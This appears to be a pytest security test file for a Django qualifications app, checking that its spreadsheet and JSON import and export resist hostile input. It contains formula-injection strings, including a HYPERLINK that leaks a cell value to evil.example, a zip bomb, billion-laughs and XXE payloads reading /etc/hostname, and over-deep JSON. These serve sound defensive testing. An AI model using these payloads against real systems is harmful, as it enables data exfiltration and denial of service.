"""Security review M1 and M2: hostile texts and hostile files in the frameworks exchange.

M1: authored texts that start like a formula are exported as text cells and come back unchanged.
M2: over-size files, zip bombs, too many rows, hostile XML and over-deep JSON are refused with a clear
message (never a 500, never a long parse)."""

import io
import json
import time
import zipfile

import pytest
from openpyxl import load_workbook

from cqphub.qualifications.demo import CQP_TITLE
from cqphub.qualifications.exchange import xlsx
from cqphub.qualifications.exchange.document import build_document, frameworks_only, parse_json
from cqphub.qualifications.exchange.xlsx import read_workbook, write_workbook
from cqphub.qualifications.models import Qualification

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=1+1",
]


def _doc(**over):
    doc = {
        "format": "cqphub.frameworks/1",
        "title": "CQP Test",
        "target_jobs": [HOSTILE[0], "Vendeur"],
        "activities": [{"code": "A1", "title": HOSTILE[4], "description": HOSTILE[2], "work_situations": []}],
        "blocks": [
            {
                "code": "BC01",
                "title": HOSTILE[3],
                "pass_rule": "all",
                "pass_threshold": None,
                "activities": ["A1"],
                "skills": [
                    {
                        "code": "C1",
                        "statement": HOSTILE[0],
                        "transversal": False,
                        "knowledge": [HOSTILE[1]],
                        "criteria": [HOSTILE[3]],
                    }
                ],
                "methods": [{"kind": "oral", "description": HOSTILE[4]}],
                "tests": [],
            }
        ],
    }
    doc.update(over)
    return doc


def _upload(data: bytes, name: str):
    upload = io.BytesIO(data)
    upload.name = name
    return upload


def _workbook_with_sheet_xml(sheet_name: str, sheet_xml: bytes) -> bytes:
    """A valid template whose `sheet_name` worksheet XML is replaced by `sheet_xml`."""
    template = xlsx.template_workbook()
    workbook = load_workbook(io.BytesIO(template))
    index = workbook.sheetnames.index(sheet_name) + 1
    source = zipfile.ZipFile(io.BytesIO(template))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == f"xl/worksheets/sheet{index}.xml":
                data = sheet_xml
            target.writestr(item, data)
    return out.getvalue()


def test_M1_formula_texts_are_exported_as_text_cells():
    data = write_workbook(_doc())
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    raw = b"".join(
        zipfile.ZipFile(io.BytesIO(data)).read(n) for n in zipfile.ZipFile(io.BytesIO(data)).namelist()
    )
    assert b"<f>" not in raw
    assert workbook["Compétences"]["C2"].value == HOSTILE[0]
    assert workbook["Compétences"]["C2"].quotePrefix


def test_M1_formula_texts_survive_the_round_trip():
    doc = _doc()
    document, errors = read_workbook(write_workbook(doc))
    assert errors == []
    assert frameworks_only(document) == frameworks_only(doc)


def test_M1_formula_cells_in_an_uploaded_sheet_are_refused():
    from openpyxl import Workbook

    workbook = load_workbook(io.BytesIO(write_workbook(_doc(target_jobs=[]))))
    assert isinstance(workbook, Workbook)
    workbook["Activités"]["B2"] = "=1+1"  # a live formula typed in by someone
    buffer = io.BytesIO()
    workbook.save(buffer)
    document, errors = read_workbook(buffer.getvalue())
    assert document is None
    assert any("Activités" in str(e) and "formule refusée" in str(e) for e in errors)


@pytest.mark.django_db
def test_M1_export_of_a_hostile_version_through_the_page(client, world):
    from cqphub.qualifications import services

    cqp = Qualification.objects.get(title=CQP_TITLE)
    draft = cqp.draft()
    doc = build_document(draft)
    doc["target_jobs"] = [HOSTILE[0]]
    doc["blocks"][0]["skills"][0]["statement"] = HOSTILE[4]
    services.import_frameworks(actor=None, version=draft, document=doc)
    client.force_login(world.users["certification_officer"])
    response = client.get(f"/espace/qualifications/{cqp.pk}/versions/{draft.number}/export.xlsx")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert not any(b"<f>" in archive.read(name) for name in archive.namelist())
    again, errors = read_workbook(response.content)
    assert errors == [] and again["target_jobs"] == [HOSTILE[0]]


def test_M2_zip_bomb_is_refused_before_parsing():
    rows = b"".join(b'<row><c t="inlineStr"><is><t>A1</t></is></c></row>' for _ in range(1))
    big = b"<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData>"
    big += rows * 800_000 + b"</sheetData></worksheet>"  # ~40 MB of XML, compresses to ~0.1 MB
    data = _workbook_with_sheet_xml("Activités", big)
    assert len(data) < 1_000_000
    started = time.perf_counter()
    document, errors = read_workbook(data)
    assert time.perf_counter() - started < 2
    assert document is None and "décompressé" in str(errors[0])


def test_M2_too_many_rows_is_refused():
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>A%d</t></is></c><c r="B%d" t="inlineStr"><is><t>x</t></is></c></row>'
        % (n, n, n, n)
        for n in range(2, xlsx.MAX_ROWS + 50)
    )
    header = (
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>code activit\xc3\xa9</t></is></c>'
        b'<c r="B1" t="inlineStr"><is><t>intitul\xc3\xa9</t></is></c>'
        b'<c r="C1" t="inlineStr"><is><t>description</t></is></c></row>'
    )
    sheet = (
        b"<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData>"
        + header
        + rows
        + b"</sheetData></worksheet>"
    )
    document, errors = read_workbook(_workbook_with_sheet_xml("Activités", sheet))
    assert document is None
    assert any("trop de lignes" in str(e) for e in errors)


def test_M2_error_report_is_capped():
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>Z%d</t></is></c></row>' % (n, n, n)
        for n in range(2, 1000)
    )
    header = (
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>code activit\xc3\xa9</t></is></c>'
        b'<c r="B1" t="inlineStr"><is><t>situation de travail</t></is></c>'
        b'<c r="C1" t="inlineStr"><is><t>description</t></is></c></row>'
    )
    sheet = b"<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData>"
    sheet += header + rows + b"</sheetData></worksheet>"
    document, errors = read_workbook(_workbook_with_sheet_xml("Situations", sheet))
    assert document is None and len(errors) <= xlsx.MAX_ERRORS + 1
    assert "plus de" in str(errors[-1])


@pytest.mark.parametrize(
    "sheet_xml",
    [
        # billion laughs
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">'
        b"]><worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData>"
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>',
        # external entity
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
        b"<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData>"
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>',
        # malformed
        b"<worksheet><sheetData><row><c",
    ],
    ids=["laughs", "xxe", "malformed"],
)
def test_M2_hostile_xml_is_one_clear_error(sheet_xml):
    document, errors = read_workbook(_workbook_with_sheet_xml("Activités", sheet_xml))
    assert document is None and errors
    assert "hostname" not in " ".join(map(str, errors))


def test_M2_deep_json_is_refused():
    for depth in (200_000, 40):
        document, problems = parse_json(b"[" * depth + b"]" * depth)
        assert document is None and "imbrication trop profonde" in problems[0]


@pytest.mark.parametrize(
    "data",
    [
        b"\xff\xfe{",
        b"{not json",
        b"1" * 5000,
        b'{"format": "cqphub.frameworks/1", "blocks": [{"methods": [[1]]}]}',
    ],
)
def test_M2_broken_json_never_raises(data):
    document, problems = parse_json(data)
    assert document is None and problems


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("deep.json", b"[" * 200_000 + b"]" * 200_000, "imbrication trop profonde"),
        ("big.xlsx", b"PK\x03\x04" + b"\0" * (5 * 1024 * 1024 + 10), "Fichier trop volumineux"),
        ("image.xlsx", b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "Type de fichier refusé"),
        ("notzip.xlsx", b"PK\x03\x04garbage", "Type de fichier refusé"),
        ("broken.xlsx", b"PK\x03\x04\0\0xl/workbook.xml garbage", "illisible"),
    ],
)
def test_M2_hostile_uploads_through_the_page(client, world, name, data, message):
    cqp = Qualification.objects.get(title=CQP_TITLE)
    before = build_document(cqp.draft())
    client.force_login(world.users["certification_officer"])
    response = client.post(f"/espace/qualifications/{cqp.pk}/echanges/", {"file": _upload(data, name)})
    assert response.status_code in (200, 400)
    assert message in response.content.decode()
    assert build_document(cqp.draft()) == before


@pytest.mark.django_db
def test_M2_zip_bomb_through_the_page(client, world):
    big = b"<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData>"
    big += b'<row><c t="inlineStr"><is><t>A1</t></is></c></row>' * 800_000 + b"</sheetData></worksheet>"
    cqp = Qualification.objects.get(title=CQP_TITLE)
    client.force_login(world.users["certification_officer"])
    data = _workbook_with_sheet_xml("Activités", big)
    response = client.post(f"/espace/qualifications/{cqp.pk}/echanges/", {"file": _upload(data, "b.xlsx")})
    assert response.status_code in (200, 400) and "décompressé" in response.content.decode()


def test_M2_json_round_trip_still_works():
    doc = _doc()
    document, problems = parse_json(json.dumps(doc).encode())
    assert problems == [] and document == doc
